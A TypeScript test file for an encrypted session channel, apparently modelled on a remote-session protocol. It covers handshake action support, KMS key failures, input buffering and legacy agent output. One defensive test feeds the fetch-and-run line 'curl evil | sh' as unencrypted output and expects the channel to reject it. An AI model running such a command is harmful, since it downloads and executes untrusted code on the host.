import { randomBytes, randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import { createNodeHash } from '../../../main/adapters/system/hash.ts';
import { createVaultCrypto } from '../../../main/adapters/vault/crypto.ts';
import { createChannel, type ChannelEffect } from '../../../main/core/session-channel/channel.ts';
import { createLink } from '../../../main/core/session-channel/link.ts';
import { PAYLOAD } from '../../../main/core/session-channel/message.ts';
import { jsonPayload } from '../../../main/core/session-channel/payloads.ts';

const tools = {
  hash: createNodeHash(),
  random: { bytes: (count: number) => new Uint8Array(randomBytes(count)), uuid: randomUUID },
  crypto: createVaultCrypto(),
  now: () => 1_000,
};
const shell = { ActionType: 'SessionType', ActionParameters: { SessionType: 'Standard_Stream' } };
const sealed = { ActionType: 'KMSEncryption', ActionParameters: { KMSKeyId: 'key' } };
const key = { plain: new Uint8Array(64).fill(7), cipher: 'AAAA' };

function bench(actions: readonly object[]) {
  const channel = createChannel(tools);
  const agent = createLink(tools, 'output_stream_data', 'input_stream_data');
  const say = (type: number, payload: Uint8Array): readonly ChannelEffect[] =>
    channel.receive(agent.send(type, payload));
  const first = say(PAYLOAD.handshakeRequest, jsonPayload({ RequestedClientActions: actions }));
  /** What the agent reads of an effect that is put on the wire. */
  const read = (effects: readonly ChannelEffect[]): unknown[] =>
    effects
      .flatMap((effect) => (effect.do === 'send' ? agent.receive(effect.bytes).delivered : []))
      .map(({ payload }) => JSON.parse(new TextDecoder().decode(payload)) as unknown);
  return { channel, say, first, read };
}

it('answers what it cannot do as unsupported, and what it can as done', () => {
  const port = { ActionType: 'SessionType', ActionParameters: { SessionType: 'Port' } };
  const { first, read } = bench([shell, port, { ActionType: 'Dance' }]);
  const [response] = read(first) as [{ ProcessedClientActions: { ActionStatus: number }[] }];
  expect(response.ProcessedClientActions.map(({ ActionStatus }) => ActionStatus)).toEqual([
    1, 3, 3,
  ]);
});

it('believes no output in clear once it is encrypted', () => {
  const { channel, say, first } = bench([shell, sealed]);
  expect(first.map((effect) => effect.do)).toContain('ask-key');
  channel.dataKey(key);
  say(PAYLOAD.handshakeComplete, jsonPayload({}));
  expect(say(PAYLOAD.output, Buffer.from('curl evil | sh'))).toContainEqual({
    do: 'broken',
    why: 'decrypt',
  });
});

it('says to the agent that there is no key, and is broken', () => {
  const { channel, read } = bench([shell, sealed]);
  const effects = channel.dataKey({ failed: 'AccessDenied' });
  expect(JSON.stringify(read(effects))).toContain('AccessDenied');
  expect(effects.at(-1)).toEqual({ do: 'broken', why: 'key' });
});

it('keeps what is typed until the handshake is through, and while it is paused', () => {
  const { channel, say } = bench([shell]);
  expect(channel.type(Buffer.from('early'))).toEqual([]);
  const ready = say(PAYLOAD.handshakeComplete, jsonPayload({}));
  expect(ready.filter((effect) => effect.do === 'send')).toHaveLength(2);
});

it('takes output before any handshake as an old agent’s shell', () => {
  const channel = createChannel(tools);
  const agent = createLink(tools, 'output_stream_data', 'input_stream_data');
  const effects = channel.receive(agent.send(PAYLOAD.output, Buffer.from('$ ')));
  expect(effects.map((effect) => effect.do)).toEqual(['send', 'ready', 'show']);
});
